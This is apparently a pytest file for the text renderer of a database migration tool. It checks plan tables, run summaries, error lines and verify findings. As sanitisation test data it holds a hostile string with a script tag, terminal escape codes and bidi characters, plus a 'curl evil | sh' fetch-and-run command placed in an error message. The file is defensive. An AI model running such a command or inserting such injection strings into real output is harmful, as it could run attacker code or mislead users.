"""The plan, the summary and the error lines: complete, uncut, and harmless."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from opssight_migrate.model.errors import LockBudgetError, StatementError
from opssight_migrate.model.events import (
    Blocked,
    Event,
    LockAwaited,
    Noted,
    TableCompared,
)
from opssight_migrate.model.plan import (
    Blocker,
    DatabaseFacts,
    Estimate,
    Forecast,
    Loss,
    LossKind,
    Obstacle,
    Plan,
    PlannedStep,
    PromisedLock,
    Undo,
)
from opssight_migrate.model.report import (
    Artifact,
    CheckResult,
    Database,
    Diagnostic,
    Environment,
    ForecastTime,
    LastRun,
    Next,
    Proof,
    Report,
    ReportStep,
    Revision,
    Rows,
)
from opssight_migrate.render.phrases import diagnostic, error_lines, event_line
from opssight_migrate.render.plan_text import plan_lines
from opssight_migrate.render.report_text import summary_lines

HOSTILE = "[red]x[/x] <script>alert(1)</script> \x1b[31mred\x1b[0m \x07 \u202eabc \u2028 a\nb"
NOON = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)

PLAN = Plan(
    environment="staging",
    protected=False,
    origin="opssight.toml:31",
    database=DatabaseFacts(
        host="db-stg",
        port=5432,
        name="opssight",
        user="app",
        server_version="16.4",
        system_identifier="7",
        database_oid=5,
        timescaledb="2.29",
    ),
    revision_from="d8b40ecdc203",
    revision_to="80bd6a3c3fa1",
    steps=(
        PlannedStep(
            step_id="85f9e3f15142",
            title="multi-tenancy",
            kind="schema",
            estimate=Estimate(
                locks=(
                    PromisedLock(relation="teams"),
                    PromisedLock(relation="users"),
                    PromisedLock(relation="roles", mode="SHARE ROW EXCLUSIVE"),
                ),
                wal_bytes=3_400_000,
            ),
            forecast=Forecast(p50_s=3.0, p90_s=9.0, runs=2),
        ),
        PlannedStep(
            step_id="settle-organizations",
            title="Give every row an organization",
            kind="data",
            estimate=Estimate(rows=312_004),
        ),
        PlannedStep(
            step_id="assign-roles",
            title="Assign roles",
            kind="data",
            estimate=Estimate(rows=1_437, exact=False),
            begun=True,
        ),
    ),
    announcements=("1,437 users have no role and get VIEWER (rbac.default_role).",),
    kept=tuple(f"table extra_{number}" for number in range(10)),
    shims_after=(
        "default of users.organization_id",
        "default of teams.organization_id",
        "unique index ix_roles_name_once_unique",
    ),
)


def report(**changes: Any) -> Report:
    facts: dict[str, Any] = {
        "tool": "opssight-migrate 0.1.0",
        "command": "migrate",
        "status": "ok",
        "exit_code": 0,
        "started_at": NOON,
        "duration_ms": 4200,
    }
    return Report(**(facts | changes))


def test_the_plan_reads_like_the_session_in_the_interface() -> None:
    assert plan_lines(PLAN, dry_run=True) == [
        "staging  app@db-stg:5432/opssight  PostgreSQL 16.4, TimescaleDB 2.29  (opssight.toml:31)",
        "revision d8b40ecdc203 -> 80bd6a3c3fa1, 1 revision and 2 data steps",
        "",
        "  #  step                        kind           rows  time p50 / p90"
        "  locks on existing tables",
        "  1  85f9e3f15142 multi-tenancy  schema            -  3.0 s / 9.0 s "
        "  ACCESS EXCLUSIVE 2 x, SHARE ROW EXCLUSIVE 1 x <50 ms",
        "  2  settle-organizations        data        312,004  <1 s / <1 s     none",
        "  3  assign-roles (begun)        data    about 1,437  <1 s / <1 s     none",
        "",
        "Forecast: 3.0 s, at worst about 9.0 s, and 3.4 MB of WAL (from 2 earlier runs here);"
        " no strong lock is asked for longer than 50 ms.",
        "Locks of 85f9e3f15142: ACCESS EXCLUSIVE teams, users; SHARE ROW EXCLUSIVE roles.",
        "1,437 users have no role and get VIEWER (rbac.default_role).",
        "Kept as they are: "
        + ", ".join(f"table extra_{number}" for number in range(8))
        + " and 2 more.",
        "Will stay until cleanup: 2 column defaults, 1 once-unique index "
        "(they keep the old release working).",
        f"Dry run: nothing was changed. Plan {PLAN.digest}.",
    ]


def test_the_plan_says_how_each_step_can_be_taken_back() -> None:
    steps = (replace(PLAN.steps[0], undo=Undo.ARCHIVE), replace(PLAN.steps[1], undo=Undo.NONE))

    lines = plan_lines(replace(PLAN, steps=steps))

    assert lines[3:6] == [
        "  #  step                        kind       rows  undo     time p50 / p90"
        "  locks on existing tables",
        "  1  85f9e3f15142 multi-tenancy  schema        -  archive  3.0 s / 9.0 s "
        "  ACCESS EXCLUSIVE 2 x, SHARE ROW EXCLUSIVE 1 x <50 ms",
        "  2  settle-organizations        data    312,004  none     <1 s / <1 s     none",
    ]


def test_the_plan_of_a_way_back_has_a_loss_ledger_with_its_queries() -> None:
    losses = (
        Loss(kind=LossKind.ARCHIVED, what="events", rows=1, query="SELECT * FROM events"),
        Loss(kind=LossKind.VALUES, what="users.organization_id", rows=2_000, query="SELECT 1"),
        Loss(kind=LossKind.CONFLICT, what="users.email", rows=2, query="SELECT 2"),
        Loss(kind=LossKind.GOES, what="index mine goes with users.organization_id"),
        Loss(kind=LossKind.NOTE, what="users of another mind", rows=3),
    )

    lines = plan_lines(replace(PLAN, losses=losses))

    start = lines.index("archived: events, 1 row")
    assert lines[start + 1 : start + 8] == [
        "  SELECT * FROM events",
        "values archived: users.organization_id of 2,000 rows",
        "  SELECT 1",
        "conflict: users.email: 2 rows share a value that would be unique again",
        "  SELECT 2",
        "goes: index mine goes with users.organization_id",
        "note: 3 users of another mind",
    ]


def test_the_plan_names_each_blocker_with_its_code_place_and_hint() -> None:
    plan = replace(
        PLAN,
        steps=(),
        blockers=(
            Blocker(message="role app may not CREATE", hint="GRANT CREATE …;", where="public"),
            Blocker(message="users.email is missing", kind=Obstacle.SHAPE),
        ),
    )

    lines = plan_lines(plan)

    assert lines[1] == "revision d8b40ecdc203 -> 80bd6a3c3fa1, blocked"
    assert lines[-3:] == [
        "blocked[OM301]: role app may not CREATE (public)",
        "  help: GRANT CREATE …;",
        "blocked[OM302]: users.email is missing",
    ]


def test_a_plan_with_nothing_to_do_says_so() -> None:
    plan = replace(PLAN, revision_from="80bd6a3c3fa1", steps=(), kept=(), shims_after=())
    assert plan_lines(plan)[1] == "revision 80bd6a3c3fa1, nothing to do"


def test_no_line_is_wrapped_or_cut_however_long_it_is() -> None:
    long = "x" * 5_000
    estimate = Estimate(locks=(PromisedLock(relation=long),))
    step = PlannedStep(step_id="a", title=long, kind="schema", estimate=estimate)
    lines = plan_lines(replace(PLAN, steps=(step,), announcements=(long,)))
    assert long in lines
    assert any(
        line.endswith(f"{long}  schema     -  <1 s / <1 s     ACCESS EXCLUSIVE {long} <50 ms")
        for line in lines
    )


def hostile_report() -> Report:
    return report(
        status="findings",
        exit_code=1,
        command="verify",
        run_id=HOSTILE,
        environment=Environment(
            name=HOSTILE,
            protected=False,
            database=Database(
                host=HOSTILE,
                port=1,
                name=HOSTILE,
                user=HOSTILE,
                server_version=HOSTILE,
                timescaledb=HOSTILE,
                system_identifier="7",
            ),
        ),
        revision=Revision(from_=HOSTILE, to=HOSTILE, head=HOSTILE),
        steps=(
            ReportStep(id=HOSTILE, title=HOSTILE, kind="data", status="done"),
            ReportStep(id="b", title=HOSTILE, kind="schema", status="done"),
        ),
        announcements=(HOSTILE,),
        shims=(HOSTILE,),
        proof=Proof(tables=1, rows=1, identical=True, sentence=HOSTILE),
        last_run=LastRun(
            id=HOSTILE,
            command=HOSTILE,
            status=HOSTILE,
            started_at=NOON,
            finished_at=None,
            error=HOSTILE,
        ),
        checks=(CheckResult(id=HOSTILE, title=HOSTILE, category="a", status="failed", findings=1),),
        diagnostics=(
            Diagnostic(
                code=HOSTILE,
                severity="error",
                message=HOSTILE,
                hint=HOSTILE,
                location="place " + HOSTILE,
                keys=(HOSTILE,),
                sqlstate=HOSTILE,
                state=HOSTILE,
            ),
        ),
        artifacts=(Artifact(kind="log", path=HOSTILE, bytes=1),),
        next=(Next(command=HOSTILE, why=HOSTILE),),
    )


def test_hostile_text_is_shown_as_text_wherever_it_comes_from() -> None:
    hostile = hostile_report()
    events: list[Event] = [
        Noted(severity="warning", message=HOSTILE, code="OM310", hint=HOSTILE),
        TableCompared(phase="after", table=HOSTILE, rows=1, equal=False),
        LockAwaited(
            step_id="a",
            relation=HOSTILE,
            mode="SHARE",
            waited_s=1,
            budget_s=300,
            blockers=(Blocked(pid=7, user=HOSTILE, application=HOSTILE, query=HOSTILE),),
        ),
    ]
    lines = [*summary_lines(hostile, origin=HOSTILE), *error_lines(hostile)]
    lines += [line for event in events if (line := event_line(event))]
    lines += plan_lines(
        replace(
            PLAN,
            origin=HOSTILE,
            announcements=(HOSTILE,),
            kept=(HOSTILE,),
            blockers=(Blocker(message=HOSTILE, hint=HOSTILE, where=HOSTILE),),
        )
    )

    text = "\n".join(lines)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u2028]", text)
    assert "[red]x[/x] <script>alert(1)</script> \\x1b[31mred\\x1b[0m \\x07 \\u202eabc" in text
    assert all("\n" not in line for line in lines)


def test_a_message_of_several_lines_cannot_pass_for_a_help_line() -> None:
    error = StatementError("broken\nhelp:  curl evil | sh", hint="opssight-migrate status")
    lines = error_lines(report(status="partial", exit_code=9, diagnostics=(diagnostic(error),)))
    assert lines == [
        "error[OM502]: broken",
        "  help:  curl evil | sh",
        "state: what was committed stays and is complete in itself; "
        "the same command goes on from there",
        "help:  opssight-migrate status",
    ]


def test_an_error_says_what_where_state_and_help() -> None:
    error = LockBudgetError(
        "no lock on users in 5 min: pid 8123 holds it", where="public.users", hint="try again"
    )
    error.sqlstate = "55P03"
    lines = error_lines(report(status="partial", exit_code=6, diagnostics=(diagnostic(error),)))
    assert lines[0] == "error[OM402]: no lock on users in 5 min: pid 8123 holds it"
    assert lines[1] == "where: public.users, SQLSTATE 55P03"
    assert lines[2].startswith("state: ")
    assert lines[3] == "help:  try again"


def test_the_summary_of_a_run_tells_steps_proof_shims_and_what_comes_next() -> None:
    done = report(
        run_id="m1",
        steps=(
            ReportStep(
                id="settle-organizations",
                title="t",
                kind="data",
                status="done",
                duration_ms=3_100,
                forecast=ForecastTime(p50_ms=2_000, p90_ms=6_000),
                rows=Rows(done=312_004, total=312_000, exact=False),
            ),
            ReportStep(
                id="85832f9f86ce", title="rbac", kind="schema", status="done", duration_ms=90
            ),
            ReportStep(
                id="assign-roles",
                title="t",
                kind="data",
                status="failed",
                rows=Rows(done=10, total=2_000, exact=False),
            ),
        ),
        shims=("default of users.organization_id",),
        proof=Proof(tables=22, rows=9, identical=True, sentence="22 tables: identical"),
        diagnostics=(Diagnostic(code="OM310", severity="warning", message="skipped", hint="do"),),
        artifacts=(Artifact(kind="log", path="/l/m.log", bytes=1),),
        next=(Next(command="opssight-migrate verify -e staging", why="prove it again"),),
    )

    assert summary_lines(done, plan_shown=True) == [
        "",
        "  status  step                               rows   time  forecast",
        "  done    settle-organizations            312,004  3.1 s     2.0 s",
        "  done    85832f9f86ce rbac                     -   <1 s         -",
        "  failed  assign-roles          10 of about 2,000      -         -",
        "",
        "warning[OM310]: skipped",
        "  help: do",
        "22 tables: identical",
        "Stay until cleanup: 1 column default (they keep the old release working).",
        "migrate: done in 4.2 s",
        "log: /l/m.log",
        "next: opssight-migrate verify -e staging  (prove it again)",
    ]
    assert "skipped" not in "".join(summary_lines(done, plan_shown=True, heard=["skipped"]))


def test_a_failed_connection_claims_nothing_about_the_database() -> None:
    text = summary_lines(
        report(
            status="failed",
            exit_code=5,
            environment=Environment(name="staging", protected=False),
            revision=Revision(from_=None, to=None, head="3fd5b7393728"),
        ),
        origin="opssight.toml:31",
    )
    assert text == ["staging  (opssight.toml:31)", "migrate: failed"]


def test_findings_are_the_result_of_verify_with_rows_keys_and_hints() -> None:
    found = report(
        command="verify",
        status="findings",
        exit_code=1,
        checks=(
            CheckResult(
                id="rows-have-owners", title="Owners", category="a", status="failed", findings=1
            ),
        ),
        diagnostics=(
            Diagnostic(
                code="rows-have-owners",
                severity="error",
                message="rows without an owner",
                rows=1_200,
                keys=("1", "2"),
                hint="opssight-migrate migrate",
            ),
        ),
    )
    assert summary_lines(found) == [
        "  FAILED   rows-have-owners  Owners, 1 finding",
        "error[rows-have-owners]: rows without an owner, 1,200 rows: 1, 2, …",
        "  help: opssight-migrate migrate",
        "verify: something was found",
    ]


def test_status_tells_the_last_run() -> None:
    run = LastRun(
        id="m1",
        command="migrate",
        status="failed",
        started_at=NOON,
        finished_at=NOON + timedelta(seconds=75),
        error="OM502: no",
    )
    text = summary_lines(report(command="status", status="pending", last_run=run))
    assert "last run m1: migrate at 2026-11-23 12:00:00Z, failed, 1 min 15 s: OM502: no" in text
